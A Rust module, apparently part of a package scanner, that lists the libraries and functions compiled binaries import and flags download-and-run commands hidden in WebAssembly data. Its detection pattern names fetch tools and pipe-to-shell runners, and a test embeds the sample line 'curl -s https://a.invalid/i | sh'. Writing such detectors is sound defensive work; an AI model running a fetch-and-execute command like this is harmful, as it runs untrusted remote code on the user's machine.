//! What compiled code asks of the system: the libraries that it links, the functions that it
//! imports. Nothing of it is run or disassembled.

mod table;

use std::collections::BTreeSet;
use std::panic::{AssertUnwindSafe, catch_unwind};

use object::read::macho::{FatArch, MachOFatFile32, MachOFatFile64};
use object::read::{File, NameOrOrdinal, Object};
use wasmparser::{Parser, Payload};

use crate::source::Kind;

/// Libraries that are kept of one file.
const MOST_LIBRARIES: usize = 64;
/// Imports that are looked at. The largest real addons have some thousands.
const MOST_IMPORTS: usize = 100_000;
/// Builds for several processors in one file.
const MOST_BUILDS: usize = 8;
/// Bytes of a command that data may hold, and commands that are kept.
const COMMAND: std::ops::RangeInclusive<usize> = 16..=1_024;
const MOST_COMMANDS: usize = 8;
/// Longest name that is kept.
const MOST_NAME: usize = 256;

/// What one file imports.
#[derive(Debug, Default, PartialEq, Eq)]
pub(crate) struct Imports {
    /// Libraries, or modules of WebAssembly; sorted.
    pub(crate) libraries: BTreeSet<String>,
    /// Behaviour and function, for those that reach outside; sorted.
    pub(crate) calls: BTreeSet<(&'static str, &'static str)>,
}

/// Reads the imports; the error says why there are none.
pub(crate) fn imports(kind: Kind, bytes: &[u8]) -> Result<Imports, String> {
    // A panic of a parser in there must cost this one file, not the package.
    let read = AssertUnwindSafe(|| match kind {
        Kind::Wasm => wasm(bytes),
        Kind::MachO => fat(bytes).unwrap_or_else(|| native(bytes)),
        _ => native(bytes),
    });
    catch_unwind(read).unwrap_or_else(|_| Err("its headers made the reader fail".to_owned()))
}

/// A file of several builds; `None` if it is a single one.
fn fat(bytes: &[u8]) -> Option<Result<Imports, String>> {
    let builds: Vec<&[u8]> = if let Ok(file) = MachOFatFile32::parse(bytes) {
        let arches = file.arches().iter().take(MOST_BUILDS);
        arches.filter_map(|arch| arch.data(bytes).ok()).collect()
    } else if let Ok(file) = MachOFatFile64::parse(bytes) {
        let arches = file.arches().iter().take(MOST_BUILDS);
        arches.filter_map(|arch| arch.data(bytes).ok()).collect()
    } else {
        return None;
    };
    let mut all = Imports::default();
    for build in builds {
        match native(build) {
            Ok(one) => {
                all.libraries.extend(one.libraries);
                all.calls.extend(one.calls);
            }
            Err(reason) => return Some(Err(reason)),
        }
    }
    Some(Ok(all))
}

fn native(bytes: &[u8]) -> Result<Imports, String> {
    let file = File::parse(bytes).map_err(|e| e.to_string())?;
    let mut found = Imports::default();
    for library in file
        .import_libraries()
        .map_err(|e| e.to_string())?
        .flatten()
    {
        found.library(library.name());
    }
    let imports = file.imports().map_err(|e| e.to_string())?;
    for import in imports.flatten().take(MOST_IMPORTS) {
        if let NameOrOrdinal::Name(name) = import.name() {
            found.call(name);
        }
    }
    Ok(found)
}

/// The imports stand before the code, which is not looked at.
fn wasm(bytes: &[u8]) -> Result<Imports, String> {
    let mut found = Imports::default();
    let mut seen = 0;
    for payload in Parser::new(0).parse_all(bytes) {
        match payload.map_err(|e| e.to_string())? {
            Payload::ImportSection(section) => {
                for import in section.into_imports() {
                    let import = import.map_err(|e| e.to_string())?;
                    seen += 1;
                    if seen > MOST_IMPORTS {
                        break;
                    }
                    found.library(import.module.as_bytes());
                    if import.module.starts_with("wasi") {
                        found.call(import.name.as_bytes());
                    }
                }
            }
            Payload::CodeSectionStart { .. } | Payload::End(_) => break,
            _ => {}
        }
    }
    Ok(found)
}

/// Commands that fetch something and run it, among the texts that WebAssembly carries.
pub(crate) fn commands(bytes: &[u8]) -> Vec<String> {
    let read = AssertUnwindSafe(|| {
        let mut found = Vec::new();
        for payload in Parser::new(0).parse_all(bytes) {
            let Ok(payload) = payload else { break };
            if let Payload::DataSection(section) = payload {
                for data in section.into_iter().flatten() {
                    let texts = data.data.split(|byte| !(b' '..=b'~').contains(byte));
                    let texts = texts.filter(|text| COMMAND.contains(&text.len()));
                    let texts = texts.filter_map(|text| std::str::from_utf8(text).ok());
                    found.extend(texts.filter(|text| fetches(text)).map(str::to_owned));
                    found.truncate(MOST_COMMANDS);
                }
            }
        }
        found
    });
    catch_unwind(read).unwrap_or_default()
}

/// Whether a text is a command that fetches something and hands it to an interpreter.
fn fetches(text: &str) -> bool {
    const FETCHERS: [&str; 5] = ["curl ", "wget ", "iwr ", "irm ", "Invoke-WebRequest"];
    const RUNNERS: [&str; 7] = ["|sh", "|bash", "|zsh", "|node", "|python", "|iex", "|perl"];
    let has = |list: &[&str], text: &str| list.iter().any(|one| text.contains(one));
    let joined = text.replace("| ", "|");
    text.contains("://") && has(&FETCHERS, text) && has(&RUNNERS, &joined)
}

impl Imports {
    fn library(&mut self, name: &[u8]) {
        let name = name.get(..MOST_NAME).unwrap_or(name);
        if !name.is_empty() && self.libraries.len() < MOST_LIBRARIES {
            self.libraries
                .insert(String::from_utf8_lossy(name).into_owned());
        }
    }

    fn call(&mut self, name: &[u8]) {
        if let Some(call) = std::str::from_utf8(name).ok().and_then(table::call) {
            self.calls.insert(call);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The magic of each form, and nothing sound after it.
    #[test]
    fn broken_files_are_errors() {
        for (kind, start) in [
            (Kind::Elf, &b"\x7fELF\x02\x01\x01"[..]),
            (Kind::Pe, b"MZ\x90\0"),
            (Kind::MachO, b"\xcf\xfa\xed\xfe"),
            (Kind::MachO, b"\xfe\xed\xfa\xce"),
            (Kind::Wasm, b"\0asm\x01\0\0\0\x02\xff"),
        ] {
            for filler in [0u8, 0x41, 0xff] {
                let mut bytes = start.to_vec();
                bytes.resize(600, filler);
                let read = imports(kind, &bytes);
                assert!(
                    read.is_err() || read.is_ok_and(|read| read.calls.is_empty()),
                    "{kind:?}"
                );
            }
        }
    }

    #[test]
    fn a_module_of_webassembly_names_what_it_needs() {
        // One type `func ()`, one import of it.
        let mut bytes = b"\0asm\x01\0\0\0\x01\x04\x01\x60\0\0".to_vec();
        let module = b"wasi_snapshot_preview1";
        let name = b"sock_send";
        let mut section = vec![1, u8::try_from(module.len()).expect("it is short")];
        section.extend_from_slice(module);
        section.push(u8::try_from(name.len()).expect("it is short"));
        section.extend_from_slice(name);
        section.extend_from_slice(&[0, 0]);
        bytes.push(2);
        bytes.push(u8::try_from(section.len()).expect("it is short"));
        bytes.extend_from_slice(&section);
        let found = imports(Kind::Wasm, &bytes).expect("it is sound");
        assert_eq!(
            found.libraries.into_iter().collect::<Vec<_>>(),
            ["wasi_snapshot_preview1"]
        );
        assert_eq!(
            found.calls.into_iter().collect::<Vec<_>>(),
            [("native.network", "sock_send")]
        );
    }

    #[test]
    fn data_that_fetch_and_run_are_told() {
        let of = |texts: &str| {
            // One active segment at address 0 of the memory.
            let mut section = vec![1, 0, 0x41, 0, 0x0b];
            section.push(u8::try_from(texts.len()).expect("it is short"));
            section.extend_from_slice(texts.as_bytes());
            let mut bytes = b"\0asm\x01\0\0\0\x0b".to_vec();
            bytes.push(u8::try_from(section.len()).expect("it is short"));
            bytes.extend_from_slice(&section);
            commands(&bytes)
        };
        let command = "curl -s https://a.invalid/i | sh";
        assert_eq!(of(&format!("large input\0{command}\0")), [command]);
        assert!(of("curl -s https://a.invalid/i > file\0").is_empty());
        assert!(of("see https://a.invalid/sh\0").is_empty());
    }
}
